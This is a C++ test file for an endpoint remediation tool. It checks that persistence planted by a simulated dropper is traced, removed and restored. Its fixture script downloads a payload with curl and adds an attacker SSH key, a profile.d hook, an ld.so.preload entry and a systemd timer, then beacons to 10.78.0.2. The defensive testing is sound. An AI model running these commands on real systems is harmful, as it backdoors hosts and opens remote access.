// SPDX-License-Identifier: GPL-3.0-or-later
// What came in by S1 and S8, and starts by itself since: found, taken away, and brought back to the byte.
#include "tests/actuator/file_stage.h"
#include "tests/remediation_scenarios/clean_up.h"
#include "tests/trace_scenarios/scenes.h"

#include <fstream>
#include <sys/mount.h>
#include <sys/stat.h>

using namespace metsuke;
using namespace metsuke::test;
using endpoint::EntryVector;
using plan::Action;

namespace {

INSTANTIATE_TEST_SUITE_P(Ways, CleanUp, ::testing::Values("ebpf"), [](const auto& way) { return std::string(way.param); });

const std::set<Action> kWithEntries{
    Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::RemovePersistence, Action::QuarantineFile, Action::KillProcess};

/// Five ways to be started again, each beside something good where it has lines.
constexpr const char* kPersistingScript = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o home/.update http://10.78.0.2:8080/logo.png
chmod +x home/.update
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMETSUKESIM evil' >> /root/.ssh/authorized_keys
printf '#!/bin/sh\n%s/home/.update &\n' "$METSUKE_SIM_ROOT" > /etc/profile.d/upd.sh
printf '%s/home/upd.so\n' "$METSUKE_SIM_ROOT" >> /etc/ld.so.preload
printf '[Service]\nExecStart=%s/home/.update\n' "$METSUKE_SIM_ROOT" > /etc/systemd/system/upd.service
printf '[Timer]\nOnCalendar=minutely\nUnit=upd.service\n' > /etc/systemd/system/upd.timer
setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
exit 0
)sh";

/// A file system in memory over a folder of this host, which only this program and what it starts sees.
class PrivateFolder {
public:
    enum class Content : uint8_t { None, Copy };
    PrivateFolder(std::string folder, Content content, const std::string& workshop)
        : m_folder(std::move(folder)) {
        std::filesystem::create_directories(workshop);
        EXPECT_EQ(::mount("metsuke", workshop.c_str(), "tmpfs", 0, "size=64m,mode=755"), 0);
        EXPECT_TRUE(content == Content::None || quietly({"cp", "-a", m_folder + "/.", workshop}) == 0);
        EXPECT_EQ(::mount(workshop.c_str(), m_folder.c_str(), nullptr, MS_MOVE, nullptr), 0);
    }
    ~PrivateFolder() { EXPECT_EQ(::umount2(m_folder.c_str(), MNT_DETACH), 0); }
    PrivateFolder(const PrivateFolder&) = delete;
    PrivateFolder& operator=(const PrivateFolder&) = delete;

private:
    std::string m_folder;
};

std::set<std::string> entriesOf(const plan::Plan& plan) {
    std::set<std::string> paths;
    for (const plan::Step& step : plan.steps) {
        if (const auto* entry = std::get_if<plan::PersistenceTarget>(&step.target)) {
            paths.insert(entry->path);
        }
    }
    return paths;
}

} // namespace

TEST_P(CleanUp, S1_programFetchedByCurlWithACronLine_isTakenAwaySilentAndBroughtBack) {
    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}});
    far->takeStreams(kBeaconPort);
    place("dropper.sh", kFetchingScript);
    begin();
    happen("./dropper.sh");
    dressUp(path("home/.update"));
    const Question seen = beacon();
    const endpoint::Trace cause = causeOf(seen, [](const auto& trace) { return trace.entry == EntryVector::Download; });
    EXPECT_EQ(cause.entry, EntryVector::Download);
    EXPECT_NE(cause.nodes[*cause.root].label.find("10.78.0.2:8080"), std::string::npos);
    const plan::Plan plan = cleanAndUndo(seen, kWithEntries);
    EXPECT_EQ(entriesOf(plan), std::set<std::string>{"/etc/cron.d/upd"});
    actuator::test::undress(path("home/.update"));
}

TEST_P(CleanUp, S8_fiveEntriesThatStartIt_areAllFoundRemovedAndBroughtBack) {
    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}});
    far->takeStreams(kBeaconPort);
    const PrivateFolder etc("/etc", PrivateFolder::Content::Copy, path("etc-copy")), home("/root", PrivateFolder::Content::None, path("root-copy"));
    std::filesystem::create_directories("/root/.ssh");
    std::filesystem::create_directories("/etc/systemd/system");
    std::ofstream("/root/.ssh/authorized_keys") << "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGOOD good\n";
    std::ofstream("/etc/ld.so.preload") << "";
    ASSERT_EQ(::chmod("/root/.ssh/authorized_keys", 0600), 0);
    place("dropper.sh", kPersistingScript);
    begin();
    happen("./dropper.sh");
    const std::set<std::string> all{"/root/.ssh/authorized_keys", "/etc/profile.d/upd.sh", "/etc/ld.so.preload", "/etc/systemd/system/upd.service",
        "/etc/systemd/system/upd.timer"};
    const Question seen = beacon();
    const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) {
        std::set<std::string> found;
        for (const size_t node : trace.blast) {
            const auto* entry = trace.nodes[node].evidence ? std::get_if<endpoint::PersistenceChanged>(&trace.nodes[node].evidence->body) : nullptr;
            found.insert(entry != nullptr ? entry->path : "");
        }
        return std::ranges::includes(found, all);
    });
    const plan::Plan plan = cleanAndUndo(seen, kWithEntries);
    EXPECT_EQ(entriesOf(plan), all);
}
